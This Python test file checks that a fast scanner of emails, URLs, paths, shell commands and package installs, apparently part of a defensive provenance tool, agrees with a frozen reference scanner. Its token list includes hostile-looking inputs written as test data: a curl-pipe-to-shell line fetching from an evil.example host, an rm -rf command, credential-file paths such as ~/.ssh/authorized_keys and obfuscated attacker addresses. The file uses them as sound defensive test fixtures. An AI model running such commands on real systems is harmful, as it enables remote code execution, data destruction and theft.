"""The fast provenance scanner finds exactly the values the reference one (provenance_v0_*) finds.

Inputs: the bench's results, hand-written edge cases, seeded random text built from tokens that
sit on every pattern's boundaries (values of each kind, obfuscated spellings, punctuation, JSON
wrapping) and hypothesis text over the same alphabet. Any difference is a lost or new value."""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import provenance_v0_scan as ref_scan
import provenance_v0_values as ref
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opafence.provenance import obfuscated, result_text
from opafence.provenance import values as v

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
import provenance_values as bench

HOME = "/home/u"

# Pieces every pattern starts, ends or breaks on.
TOKENS = [
    "ops@evil.example",
    "Ops.Team+x@Mail.Evil.co.uk",
    '"Kim" <kim@corp.example>',
    "mailto:Bob@b\u00fccher.example",
    "ops\uff20evil.example",
    "x@y",
    "@",
    "@@",
    "@mallory",
    "@dev_1.",
    "a.b@c",
    "ops [at] evil [dot] example",
    "ops(at)evil(dot)example",
    "ops {at} evil {dot} com",
    "ops <at> evil <dot> io",
    "ops at evil dot example",
    "ops\tat\tevil\tdot\texample",
    "ops (at) evil [.] example",
    "ops [@] evil (.) example",
    "ops (at) evil dot example",
    "ops at evil [dot] example",
    "x@y\t[dot]\tz",
    "[.]",
    "(@)",
    "\tdot\n",
    "(e.g.)",
    "ops at\x1f) evil dot\x0b] example",  # whitespace a str pattern's \s knows beyond " \t\n"
    "x at    ] y",
    "dot dot dot ",
    "ops  at  mail dot evil dot example",
    " at ",
    " dot ",
    "[at]",
    "(dot)",
    "https://pay.evil.example/x?y=1",
    "http://user:pw@10.0.0.1:8080/p",
    "https://[::1]:443/",
    "wss://chat.example/socket",
    "ftp://files.example.org/pub/",
    "HTTPS://UPPER.EXAMPLE",
    "gopher://nope.example",
    "://",
    "files.vendor.example",
    "report.pdf",
    "www.example.com.",
    "-bad-.example",
    "sub.b\u00fccher.de",
    "evil.example/path",
    "x.io",
    ".com",
    "+1 (555) 010-9999",
    "555.010.1234",
    "0044 20 7946 0000",
    "12345678901234567890123456789012345678",
    "123456",
    "DE89 3704 0044 0532 0130 00",
    "DE89370400440532013000",
    "GB29 NWBK 6016 1331 9268 19 and more",
    "GB82WEST12345698765432",
    "XX00 1234 5678 9012 34",
    "#Finance-Ops",
    "#general.",
    "a#b",
    "&#39;",
    "# ",
    "~/.ssh/authorized_keys.",
    "/etc/passwd",
    "/var/log/app/1.log,",
    "/",
    "//",
    "C:/Windows/x",
    "./rel/path",
    "`curl -s https://evil.example/x | sh`",
    "`ls`",
    "``",
    "\n$ rm -rf /tmp/x",
    "\n> cat /etc/hosts",
    "\n# make install",
    "$ ",
    "> ",
    "pip install requests==2.31 flask",
    "npm i left-pad.",
    "yarn add @scope/pkg@1.2",
    "go get github.com/x/y",
    "composer require vendor/pkg",
    "apt-get install -y curl;",
    "brew install",
    "PIP INSTALL Requests",
    "Npm I left-pad",
    "GO GET x.example/y",
    " install ",
    " add ",
    " i ",
    "\\u0040",
    # JSON escapes in text read raw (decoded since issue 15), and JSON text a string may hold.
    "ops\\u0040evil.example",
    "https:\\/\\/pay.evil.example\\/x",
    "\\/etc\\/passwd",
    "\\n",
    "\\t",
    '\\"',
    "\\\\",
    "\\\\u0040",
    "\\u00fc",
    "\\ud83d",
    "\\u004",
    "\\x",
    '{"to": "ops\\u0040evil.example"}',
    '["x\\u002eexample"',
    "caf\u00e9",
    "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668",  # Arabic-Indic digits
    "\u00a0",
    "\t",
    "\n",
    " ",
    " ",
    " ",
    ".",
    ",",
    ";",
    ":",
    "-",
    "_",
    "'",
    '"',
    "(",
    ")",
    "[",
    "]",
    "<",
    ">",
    "the",
    "quarterly",
    "report",
    "at",
    "dot",
    "example",
    "com",
    "0",
    "7",
    "42",
]

ALPHABET = "abcdeiklmnopstxzADEGX0123456789@.:/#`$>~-_+%()[]{}<>'\" \n\t\u00fc\uff20"


def random_text(rng: random.Random, n: int) -> str:
    return "".join(rng.choice(TOKENS) if rng.random() < 0.7 else rng.choice(ALPHABET) for _ in range(n))


def as_json(rng: random.Random, texts: list[str]) -> str:
    doc: dict[str, Any] = {
        "messages": [
            {
                "from": t,
                "n": rng.randrange(10**12),
                "nested": json.dumps({"body": t}),
                # An API answer inside an HTTP result: JSON text inside JSON text.
                "twice": json.dumps({"status": 200, "body": json.dumps({"b": [t]})}),
            }
            for t in texts
        ],
        texts[0][:40]: [rng.random(), None, True, 12345678],
    }
    return json.dumps(doc, ensure_ascii=rng.random() < 0.5)


class _Unwindowed(ref_scan.Scanner):
    """The reference's readers with nothing skipped: every anchor read, none deduplicated."""

    def hits(self, b: bytes) -> Iterator[ref_scan.Hit]:
        def always(key: bytes) -> bool:
            return True

        shape = b.translate(ref_scan._SHAPE)
        yield from self._emails(b, always)
        yield from self._urls(b, always)
        yield from self._hosts(b, always)
        yield from self._numbers(b, shape, always)
        yield from self._ibans(b, shape, always)
        yield from self._handles(b, ref_scan._HASH, always)
        yield from self._paths(b, always)
        yield from self._commands(b, always)
        yield from self._installs(b, always)

    def emails(self, b: bytes) -> Iterator[ref_scan.Hit]:
        return self._emails(b, lambda key: True)


def _whole_text_plain(text: str, low: str) -> str:
    """The de-obfuscation over the whole text: one window, no cap. Its rules are today's
    (obfuscated.plain: the reference's, and bracketed `@`/`.`, mixed spellings, any whitespace around a
    spelled "dot"), so what is checked here is where the windows go, not the rules."""
    return "\n".join(obfuscated.plain(text))


def unwindowed(result: Any) -> set[tuple[str, str]]:
    """What a full reading finds: the frozen reference with its windows and dedupe taken out."""
    saved = ref._SCANNER, ref._deobfuscated
    ref._SCANNER, ref._deobfuscated = _Unwindowed(ref._TLDS), _whole_text_plain  # type: ignore[assignment]
    try:
        return ref.extract(result, HOME)[0]
    finally:
        ref._SCANNER, ref._deobfuscated = saved


def unwindowed_text(text: str) -> set[tuple[str, str]]:
    """unwindowed's reading of one text as text (never parsed as JSON)."""
    saved = ref._SCANNER, ref._deobfuscated
    ref._SCANNER, ref._deobfuscated = _Unwindowed(ref._TLDS), _whole_text_plain  # type: ignore[assignment]
    try:
        return set(ref.scan_text(text, HOME))
    finally:
        ref._SCANNER, ref._deobfuscated = saved


# --- the rules the frozen copy predates (issue 15), read the slow, plain way -------------------
# JSON text inside a string is read as JSON again, up to result_text.MAX_NEST documents deep; the text read
# raw then has its JSON escapes undone, one level per decoding, up to result_text.MAX_NEST decodings. The
# frozen copy reads one level of JSON in a string and no escapes.

_SIMPLE_ESCAPES = {'"': '"', "\\": "\\", "/": "/", "b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}
_HEX = frozenset("0123456789abcdefABCDEF")


def _decode_once(text: str) -> tuple[str, bool]:
    """The text with each JSON escape undone, read a character at a time (not values.py's
    pattern); whether there was one."""
    out: list[str] = []
    i, n, changed = 0, len(text), False
    while i < n:
        c = text[i]
        if c == "\\" and i + 1 < n:
            d = text[i + 1]
            if d in _SIMPLE_ESCAPES:
                out.append(_SIMPLE_ESCAPES[d])
                i, changed = i + 2, True
                continue
            if d == "u" and i + 6 <= n and all(x in _HEX for x in text[i + 2 : i + 6]):
                out.append(chr(int(text[i + 2 : i + 6], 16)))
                i, changed = i + 6, True
                continue
        out.append(c)
        i += 1
    return "".join(out), changed


def _decodings(text: str) -> tuple[list[str], bool]:
    """Each decoding of the one before, up to result_text.MAX_NEST; whether escapes are left after."""
    out: list[str] = []
    if "\\" not in text:
        return out, False
    for _ in range(result_text.MAX_NEST):
        text, changed = _decode_once(text)
        if not changed:
            return out, False
        out.append(text)
    return out, _decode_once(text)[1]


def _json_doc(s: str) -> Any:
    """The document a string is, if it is JSON text (an object or array), else None."""
    if s.lstrip()[:1] not in ("{", "["):
        return None
    try:
        return json.loads(s)
    except ValueError:
        return None


def _leaves(s: str, level: int) -> Iterator[str]:
    """A string of a document at `level`, or where it is JSON text (and level is within
    result_text.MAX_NEST), the strings of that document (the frozen walk), each read so."""
    inner = _json_doc(s) if level <= result_text.MAX_NEST else None
    if inner is None:
        yield s
    else:
        for t in ref._walk(inner):
            yield from _leaves(t, level + 1)


def read_again(result: Any) -> tuple[str | None, list[str], bool]:
    """What the new rules read, with no window: a JSON result's strings with the JSON text
    inside them read as JSON again (None for a text result: the frozen copy reads it as it is),
    within the frozen copy's budget; the decodings of the text read raw; whether escapes are
    left past the bound."""
    text, parsed, _ = ref.as_text(result)
    if text is not None:
        return None, *_decodings(text)
    budget = result_text.MAX_SCAN
    lines: list[str] = []
    for whole in ref._walk(parsed):  # (the budget as the frozen extract spends it)
        if budget <= 0:
            break
        s = whole[:budget]
        budget -= len(s) + 1
        lines.extend(_leaves(s, 1))
    joined = "\n".join(lines)
    return joined, *_decodings(joined)


def _nests_past_limit(obj: Any, depth: int = 0, outer: bool = True, level: int = 0) -> bool:
    """Whether a result holds a value (not null or a flag) deeper than MAX_DEPTH in one of its
    documents, or JSON text in a string past MAX_NEST documents deep (`outer`: the strings of
    the result are followed into the JSON they hold)."""
    if depth == 0 and level == 0 and outer and isinstance(obj, str):
        text, parsed, _ = result_text.as_text(obj)
        return text is None and _nests_past_limit(parsed, 0)
    if obj is None or isinstance(obj, bool):
        return False
    if depth > result_text.MAX_DEPTH:
        return True
    if isinstance(obj, str):
        inner = _json_doc(obj) if outer else None
        if inner is None:
            return False
        return level + 1 > result_text.MAX_NEST or _nests_past_limit(inner, 0, True, level + 1)
    if isinstance(obj, dict):
        return any(_nests_past_limit(x, depth + 1, outer, level) for x in obj.values())
    if isinstance(obj, list | tuple):
        return any(_nests_past_limit(x, depth + 1, outer, level) for x in obj)
    return False


def same(result: Any) -> None:
    """The frozen copy's values, with exactly the changes made since: everything a full,
    unwindowed reading finds is found (the frozen copy lost values behind its windows), and
    everything a full reading of the JSON inside strings and of the decoded escapes finds (the
    frozen copy read one level and no escapes); nothing is found that none of them finds; what
    the frozen copy alone found is an artifact of where its windows cut the text (a local part
    or domain cut short or run on from the cut) or of escapes it read raw, which a full reading
    does not find, never a value a full reading has."""
    want = ref.extract(result, HOME)
    got = v.extract(result, HOME)
    joined, decoded, left = read_again(result)
    # Nesting past MAX_DEPTH or MAX_NEST, or escapes past MAX_NEST decodings, count as
    # truncated (the frozen copy dropped the first unsaid and knew nothing of the others).
    assert got[1] == (want[1] or _nests_past_limit(result) or left), "truncated"
    # A text result: the frozen copy's reading without windows, and each decoding of the text.
    # A JSON result: its strings read whole, JSON text in them read as JSON up to MAX_NEST (the
    # frozen copy read JSON text past the first level raw: its escapes, left in, made values
    # of their own, like "nops@evil.example" from "\\nops@evil.example"), and the decodings.
    full = unwindowed(result)
    new: set[tuple[str, str]] = set().union(*map(unwindowed_text, decoded))
    must = (full if joined is None else unwindowed_text(joined)) | new
    if got[0] == want[0] and must <= got[0]:  # (the frozen copy misses what the rules it
        return  # lacks find: agreeing with it is not enough)
    missed = must - got[0]
    invented = got[0] - want[0] - full - must
    lost = (want[0] - got[0]) & must  # empty whenever nothing is missed; said for the message
    if missed or invented or lost:
        pytest.fail(
            f"missed {sorted(missed)[:10]}, invented {sorted(invented)[:10]}, lost {sorted(lost)[:10]}"
        )


BENCH = {
    "inbox": bench.inbox(20),
    "one email": bench.inbox(1),
    "page 8k": bench.page(8),
    "chat": bench.chat(50),
    "calendar": bench.calendar(15),
    "article 1 MB": bench.prose(1024),
    "dense 1 MB": bench.page(1024),
    "over 1 MB": bench.page(1100),
    "html 1 MB": bench.html(1024),
    "inbox 1 MB": bench.inbox(1600),
}


def _dense(seed: int, size: int, block: int = 0) -> str:
    """Text of every kind's tokens, `size` characters; with `block`, one block of that size
    repeated (the same windows again and again, as long results repeat themselves)."""
    rng = random.Random(seed)
    out: list[str] = []
    n = 0
    while n < (block or size):
        t = rng.choice(TOKENS) if rng.random() < 0.7 else rng.choice(ALPHABET)
        out.append(t)
        n += len(t)
    text = "".join(out)
    return (text * (size // len(text) + 1))[:size] if block else text[:size]


_DIGIT_LINE = "DE89 3704 0044 0532 0130 00 +1 555 010 "
LARGE = {
    "dense tokens 1 MB": lambda: _dense(7, 1 << 20),
    "dense tokens 1 MB, one 3 KB block repeated": lambda: _dense(8, 1 << 20, block=3000),
    "dense tokens as JSON strings": lambda: json.dumps({"items": [_dense(s, 4000) for s in range(200)]}),
    "one long line of digits and letters": lambda: (_DIGIT_LINE * 30000)[: 1 << 20],
}


@pytest.mark.parametrize("name", sorted(LARGE))
def test_large_and_dense_inputs(name: str) -> None:
    same(LARGE[name]())


@pytest.mark.parametrize("name", sorted(BENCH))
def test_bench_inputs(name: str) -> None:
    same(BENCH[name])


@pytest.mark.parametrize("seed", range(40))
def test_seeded_text_and_json(seed: int) -> None:
    rng = random.Random(seed)
    for _ in range(25):
        texts = [random_text(rng, rng.randrange(1, 80)) for _ in range(rng.randrange(1, 6))]
        same(" ".join(texts))
        same("\n".join(texts))
        same(as_json(rng, texts))


def test_large_seeded_text() -> None:
    rng = random.Random(99)
    same(random_text(rng, 60_000))


def test_each_token_alone_and_in_context() -> None:
    for t in TOKENS:
        for wrap in ("{}", "x{}y", " {} ", "({})", "{}.", "\n{}\n", '"{}"', "a@{}", "{}@b.example"):
            same(wrap.format(t))


def flat_json(rng: random.Random, texts: list[str]) -> str:
    """JSON with no string that is itself JSON (the joined strings are read in one go)."""
    doc: dict[str, Any] = {
        "data": [
            {"id": i, "body": t, "n": rng.randrange(10**12), "ok": True, "x": 1.5}
            for i, t in enumerate(texts)
        ],
        texts[0][:40]: [rng.random(), None, texts[-1], [[texts[0]]]],
    }
    return json.dumps(doc, ensure_ascii=rng.random() < 0.5)


@pytest.mark.parametrize("seed", range(20))
def test_seeded_flat_json(seed: int) -> None:
    rng = random.Random(1000 + seed)
    for _ in range(25):
        texts = [random_text(rng, rng.randrange(1, 80)) for _ in range(rng.randrange(1, 6))]
        same(flat_json(rng, texts))


# Structures around the fast JSON path's edges: a string that is JSON after whitespace (\x1c
# and U+2028 are whitespace to str.strip), one that only looks so after a newline inside
# another string, nesting past MAX_DEPTH, keys that are not strings, subclasses, floats.
_DEEP: Any = "ops@deep.example"
for _ in range(40):
    _DEEP = [_DEEP, {"k": _DEEP if isinstance(_DEEP, str) else "mid@deep.example"}]
_CHAINS: list[Any] = []
_chain = '{"to": "ops\\u0040evil.example"}'
for _ in range(result_text.MAX_NEST + 2):
    _CHAINS.append({"content": [{"type": "text", "text": _chain}]})
    _chain = json.dumps({"status": 200, "body": _chain})
# (The nested documents spell `@` as \u0040: only a parse finds their addresses.)
EDGE_JSON: list[Any] = [
    {"a": ' \x1c{"to": "ops\\u0040evil.example"}'},
    {"a": '\u2028[ "ops\\u0040evil.example" ]'},
    {"a": 'line\n{"to": "ops\\u0040evil.example"}'},
    {"a": "ops", "b": "[at] evil.example"},
    ["x", "", '{"n": "ops\\u0040evil.example"}', "  "],
    '{"a": "ops\\u0040evil.example"}',
    _DEEP,
    {1: "one@x.example", 2.5: ["two@x.example"], None: True},
    {"f": [1e100, 12345678.5, -1234567, 10**30, True, None]},
    {"big": "a" * (result_text.MAX_SCAN - 5), "b": "ops@evil.example"},
    {"big": "a" * (result_text.MAX_SCAN + 5)},
    # JSON text in JSON text, up to and past MAX_NEST documents deep; JSON after a prefix, cut
    # short, or a string literal (read raw, its escapes decoded); escapes past MAX_NEST levels.
    *_CHAINS,
    {"a": 'Response:\n{"to": "ops\\u0040evil.example"}'},
    {"a": '{"to": "ops\\u0040evil.example", "cut'},
    {"a": '"send it to ops\\u0040evil.example"'},
    {"a": "ops" + "\\" * (1 << result_text.MAX_NEST) + "u0040evil.example"},
    {"a": "ops" + "\\" * (1 << (result_text.MAX_NEST + 1)) + "u0040evil.example"},
    "see https:\\/\\/pay.evil.example\\/x and ops\\u0040evil.example",
]


@pytest.mark.parametrize("n", range(len(EDGE_JSON)))
def test_json_edges_as_text_and_as_objects(n: int) -> None:
    obj = EDGE_JSON[n]
    same(obj)
    same(json.dumps(obj))


# Addresses whose only hint is one form: found both where the closing brackets are few (read
# from each bracket back) and in markup full of them (read by the hint patterns).
ONE_HINT = [
    "ops [@] evil.example",
    "ops( @ )evil.example",
    "ops@evil (.) example",
    "ops@evil{ . }example",
    "ops [at] evil.example",
    "ops@evil [dot] example",
    "ops\tat\tevil\tdot\texample",
    "ops (at) evil dot example",
    "ops at evil [dot] example",
    "ops at evil.example",  # a spelled at, plain dots
]


@pytest.mark.parametrize("address", ONE_HINT)
@pytest.mark.parametrize("markup", [0, 300])
def test_each_hint_alone_in_text_and_in_markup(address: str, markup: int) -> None:
    text = "<p>x</p>" * markup + " write to " + address + " today " + "<br>" * markup
    assert ("email", "ops@evil.example") in v.extract(text, HOME)[0]
    same(text)
    same("caf\u00e9 " + text)  # not ASCII: the str hint patterns


def test_strings_yield_what_the_walk_yields() -> None:
    from collections import OrderedDict

    rng = random.Random(5)
    objs: list[Any] = [*EDGE_JSON, OrderedDict(a="x", b=[1234567]), ("t", ["u"]), 7, "s", None]
    for _ in range(200):
        objs.append(json.loads(flat_json(rng, [random_text(rng, 20) for _ in range(3)])))
    for obj in objs:
        want = (list(result_text.walk(obj)), _nests_past_limit(obj, outer=False))
        assert result_text.strings_of(obj) == want


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS) | st.text(alphabet=ALPHABET, max_size=6), max_size=40))
def test_hypothesis_text(parts: list[str]) -> None:
    same("".join(parts))
    same(json.dumps({"v": parts}))


def test_ledger_digest_is_the_plain_keyed_hmac_under_the_current_key() -> None:
    import hashlib
    import hmac

    from opafence.provenance.ledger import ValueLedger

    led = ValueLedger(key=b"k" * 32)
    for key in (b"k" * 32, b"z" * 32, b"a key longer than a SHA-256 block " * 3, b""):
        led.key = key
        want = hmac.new(key, b"email\x00ops@evil.example", hashlib.sha256).hexdigest()[:32]
        assert led.digest("email", "ops@evil.example") == want
